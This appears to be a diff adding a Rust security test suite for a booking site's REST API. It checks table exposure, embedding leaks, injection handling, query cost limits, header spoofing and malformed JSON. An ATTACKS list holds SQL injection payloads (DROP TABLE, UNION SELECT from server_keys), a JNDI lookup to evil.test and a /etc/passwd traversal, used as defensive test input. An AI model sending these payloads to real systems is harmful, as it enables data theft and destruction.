@@ -1,0 +1,270 @@
+//! Questions that mean harm: rows Q01 to Q20 and D03. Who sees what is `permissions.rs`.
+
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::program::Answer;
+use crate::tokens;
+use crate::world::World;
+
+const JSON: (&str, &str) = ("content-type", "application/json");
+
+/// An address with a value in it, encoded.
+fn with(before: &str, value: &str) -> String {
+    let encoded: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
+    format!("{before}{encoded}")
+}
+
+fn told(answer: &Answer) -> (u16, String) {
+    (answer.status, answer.code())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn q01_q16_q17_q19_what_is_not_exposed_is_not_there() {
+    let world = World::empty().await;
+    for table in ["booking_requests", "payment_logs", "guide_applications", "profiles", "contact_messages"] {
+        assert_eq!(told(&world.get(&format!("/rest/v1/{table}")).await), (401, "42501".into()), "{table}");
+    }
+    for table in [
+        "auth.users",
+        "users",
+        "jobs",
+        "mails",
+        "server_keys",
+        "sqlite_master",
+        "pg_catalog.pg_user",
+        "information_schema.tables",
+    ] {
+        assert_eq!(told(&world.get(&format!("/rest/v1/{table}")).await), (404, "PGRST205".into()), "{table}");
+    }
+    for function in ["pg_sleep", "load_extension", "pg_read_file", "version"] {
+        assert_eq!(told(&world.get(&format!("/rest/v1/rpc/{function}?x=1")).await), (404, "PGRST202".into()));
+    }
+    for (method, header) in [("GET", "accept-profile"), ("POST", "content-profile")] {
+        for schema in ["auth", "storage", "pg_catalog"] {
+            let answer = world.ask(method, "/rest/v1/contact_messages", &[(header, schema), JSON], "{}").await;
+            assert_eq!(told(&answer), (406, "PGRST106".into()), "{schema}");
+        }
+    }
+    let root = world.get("/rest/v1/").await.json();
+    let paths: Vec<_> = root["paths"].as_object().unwrap().keys().cloned().collect();
+    assert!(paths.contains(&"/packages".to_owned()), "{paths:?}");
+    for hidden in ["/users", "/server_keys", "/jobs", "/mails"] {
+        assert!(!paths.contains(&hidden.to_owned()), "{hidden}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn q03_q04_q05_q06_no_way_round_leads_to_a_hidden_row_or_column() {
+    let world = World::demo().await;
+    for question in [
+        "packages?select=id,booking_requests(contact_email)",
+        "packages?select=id,x:booking_requests!inner(id)",
+        "packages?select=id,package_owners(user_id)",
+        "guides?select=id,guide_package_requests(*)",
+        "guides?select=id,payment_logs!payment_logs_guide_id_fkey(amount)",
+        "packages?select=id,package_guides(guides(booking_requests(contact_email)))",
+        "guides?user_id=eq.00000000-0000-4000-8000-000000000000",
+        "guides?or=(display_name.eq.x,not.and(rating.gt.1,user_id.not.is.null))",
+        "guides?select=id&order=user_id",
+        "packages?select=id,reviews(id)&reviews.user_id=not.is.null",
+        "packages?select=id,reviews(id)&reviews.order=is_hidden",
+        "reviews?select=who:user_id",
+    ] {
+        let (status, code) = told(&world.get(&format!("/rest/v1/{question}")).await);
+        assert_eq!((status, code.as_str()), (401, "42501"), "{question}");
+    }
+    for question in [
+        "guides?select=id,profiles(is_admin)",
+        "guides?select=id,guide_applications(*)",
+        "guides?select=id,users(email)",
+    ] {
+        let (status, code) = told(&world.get(&format!("/rest/v1/{question}")).await);
+        assert_eq!((status, code.as_str()), (400, "PGRST200"), "{question}");
+    }
+    let all = world.get("/rest/v1/guides?limit=1").await.json();
+    assert!(all[0].get("user_id").is_none(), "{all}");
+}
+
+/// What has broken other servers, each in every place that takes text.
+const ATTACKS: [&str; 22] = [
+    "' OR '1'='1",
+    "\" OR \"\"=\"",
+    "1; DROP TABLE packages; --",
+    "') UNION SELECT secret FROM server_keys --",
+    "') UNION SELECT name, sql FROM sqlite_master --",
+    "'; SELECT pg_sleep(5); --",
+    "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
+    "' AND 1=randomblob(1000000000) --",
+    "$1",
+    "?1",
+    ":name",
+    "\\",
+    "\\'",
+    "%",
+    "_",
+    "NULL",
+    "${jndi:ldap://evil.test/a}",
+    "../../../../etc/passwd",
+    "\u{2028}\u{202e}\u{feff}",
+    "😀",
+    "eq.",
+    "(((((((((",
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn q10_q18_text_is_data_wherever_it_stands() {
+    let world = World::demo().await;
+    let before = world.get("/rest/v1/packages?select=id").await.body;
+    for attack in ATTACKS {
+        for place in [
+            "/rest/v1/packages?title=eq.",
+            "/rest/v1/packages?title=ilike.",
+            "/rest/v1/packages?id=eq.",
+            "/rest/v1/packages?id=in.(",
+            "/rest/v1/packages?price=gt.",
+            "/rest/v1/packages?select=",
+            "/rest/v1/packages?select=id,alias:",
+            "/rest/v1/packages?select=id,guides!",
+            "/rest/v1/packages?order=",
+            "/rest/v1/packages?or=",
+            "/rest/v1/packages?title=fts(english).",
+            "/rest/v1/packages?limit=",
+            "/rest/v1/packages?offset=",
+            "/rest/v1/packages?",
+            "/rest/v1/",
+            "/rest/v1/rpc/search_packages?q=",
+            "/rest/v1/rpc/search_packages?location=",
+            "/rest/v1/rpc/search_packages?price_min=",
+            "/rest/v1/rpc/search_packages?date_from=",
+            "/rest/v1/rpc/suggest_places?q=",
+            "/packages/",
+            "/guides/",
+            "/search?q=",
+            "/cards/packages/",
+        ] {
+            let started = Instant::now();
+            let answer = world.get(&with(place, attack)).await;
+            assert!(answer.status < 500, "{place}{attack}: {answer:?}");
+            assert!(started.elapsed() < Duration::from_secs(2), "{place}{attack}");
+            let text = String::from_utf8_lossy(&answer.body);
+            assert!(!text.contains("\"t1\"") && !text.contains("near \""), "{place}{attack}: {text}");
+        }
+        if let Ok(value) = axum::http::HeaderValue::from_str(attack) {
+            for header in ["prefer", "range", "accept", "accept-profile", "if-none-match", "apikey", "authorization"] {
+                let answer =
+                    world.ask("GET", "/rest/v1/packages?limit=1", &[(header, value.to_str().unwrap_or(""))], "").await;
+                assert!(answer.status < 500, "{header}: {attack}");
+            }
+        }
+    }
+    assert_eq!(world.get("/rest/v1/packages?select=id").await.body, before);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn q18_odd_text_is_refused_or_kept_exactly() {
+    let world = World::empty().await;
+    let nul = world.get("/rest/v1/packages?title=eq.a%00b").await;
+    assert_eq!(told(&nul), (400, "22P05".into()));
+    for bytes in ["%FF", "%C0%AF", "%ED%A0%80"] {
+        assert_eq!(world.get(&format!("/rest/v1/packages?title=eq.{bytes}")).await.status, 400, "{bytes}");
+    }
+    let write = async |message: &str| {
+        let body =
+            json!({ "first_name": "A", "last_name": "B", "email": "a@example.lk", "subject": "C", "message": message });
+        world.ask("POST", "/rest/v1/contact_messages", &[JSON], &body.to_string()).await
+    };
+    assert_eq!(told(&write("a\0b").await), (400, "22P05".into()));
+    let odd = "ශ්‍රී 😀 \u{202e}abc\u{2069} \u{2028}e\u{301} ' \" \\ % _";
+    assert_eq!(write(odd).await.status, 201);
+    let kept = world
+        .ask("GET", "/rest/v1/contact_messages?select=message", &[("authorization", &tokens::service())], "")
+        .await;
+    assert_eq!(kept.json(), json!([{ "message": odd }]));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn q08_q09_q11_q12_q13_q14_q15_questions_without_measure_are_refused_cheaply() {
+    let world = World::demo().await;
+    let nested = |open: &str, close: &str, depth: usize| open.repeat(depth) + "id.eq.1" + &close.repeat(depth);
+    let ids = |count: usize| vec!["00000000-0000-4000-8000-000000000000"; count].join(",");
+    let filters = vec!["price=gt.1"; 51].join("&");
+    for (question, status, code) in [
+        (format!("id=in.({})", ids(201)), 400, "PGRST100"),
+        (filters, 400, "PGRST100"),
+        (format!("or={}", nested("(and(", "))", 100)), 400, "PGRST100"),
+        (format!("select={}id{}", "package_guides(guides(".repeat(20), "))".repeat(20)), 400, "PGRST100"),
+        (format!("title=ilike.{}", "%25a".repeat(9)), 400, "PGRST100"),
+        (format!("title=ilike.{}", "a".repeat(201)), 400, "PGRST100"),
+        ("title=match.(a%2B)%2B$".to_owned(), 400, "PGRST100"),
+        ("limit=1e12".to_owned(), 400, "PGRST100"),
+        ("limit=-1".to_owned(), 416, "PGRST103"),
+        ("offset=1e18".to_owned(), 400, "PGRST100"),
+        (format!("select={}", "x".repeat(9_000)), 414, "PGRST100"),
+    ] {
+        let started = Instant::now();
+        let answer = world.get(&format!("/rest/v1/packages?{question}")).await;
+        assert_eq!(told(&answer), (status, code.to_owned()), "{question}: {}", answer.json());
+        assert!(started.elapsed() < Duration::from_millis(500), "{question}");
+    }
+    for question in [
+        "select=count()",
+        "select=price.sum()",
+        "select=id::regclass",
+        "select=images-%3E0-%3E1-%3E2-%3E3-%3E4-%3E5-%3E6",
+    ] {
+        let answer = world.get(&format!("/rest/v1/packages?{question}")).await;
+        assert_eq!(answer.status, 400, "{question}: {:?}", answer.json());
+    }
+    for media in ["application/geo+json", "application/vnd.pgrst.plan+json", "text/xml"] {
+        let answer = world.ask("GET", "/rest/v1/packages", &[("accept", media)], "").await;
+        assert_eq!(told(&answer), (406, "PGRST107".into()), "{media}");
+    }
+    let far = world.ask("GET", "/rest/v1/packages?offset=99999", &[("prefer", "count=exact")], "").await;
+    assert_eq!(told(&far), (416, "PGRST103".into()));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn q20_headers_that_lie_change_nothing_and_answers_to_a_token_are_nobody_elses() {
+    let world = World::demo().await;
+    let plain = world.get("/rest/v1/packages?select=id&limit=3").await;
+    let lies = [
+        ("x-http-method-override", "DELETE"),
+        ("x-forwarded-host", "evil.test"),
+        ("x-forwarded-prefix", "/evil"),
+        ("x-original-url", "/rest/v1/users"),
+    ];
+    let lied = world.ask("GET", "/rest/v1/packages?select=id&limit=3", &lies, "").await;
+    assert_eq!((lied.status, &lied.body), (200, &plain.body));
+    let page = world.ask("GET", "/", &[("host", "evil.test"), ("x-forwarded-host", "evil.test")], "").await;
+    assert!(!String::from_utf8_lossy(&page.body).contains("evil.test"));
+    assert_eq!(plain.header("cache-control"), "public, no-cache");
+    let service = tokens::service();
+    let own = world.ask("GET", "/rest/v1/packages?select=id&limit=3", &[("authorization", &service)], "").await;
+    assert_eq!(own.header("cache-control"), "private, no-store");
+    for name in ["authorization", "accept", "accept-profile", "prefer"] {
+        assert!(own.header("vary").to_lowercase().contains(name), "{}", own.header("vary"));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn d03_bodies_that_are_deep_wide_or_no_json_are_refused() {
+    let world = World::empty().await;
+    let wide: serde_json::Map<String, Value> = (0..50_000).map(|number| (format!("k{number}"), Value::Null)).collect();
+    for body in [
+        "[".repeat(100_000),
+        format!("{{\"a\":{}1{}}}", "[".repeat(65), "]".repeat(65)),
+        Value::Object(wide).to_string(),
+        "{\"message\":1e400}".to_owned(),
+        "{\"message\":99999999999999999999}".to_owned(),
+        "{\"message\":".to_owned(),
+        "null".to_owned(),
+        String::new(),
+    ] {
+        let answer = world.ask("POST", "/rest/v1/contact_messages", &[JSON], &body).await;
+        assert_eq!(answer.status, 400, "{:.60}: {:?}", body, answer.json());
+        let function = world.ask("POST", "/rest/v1/rpc/suggest_places", &[JSON], &body).await;
+        assert!(function.status < 500, "{body:.60}");
+    }
+}
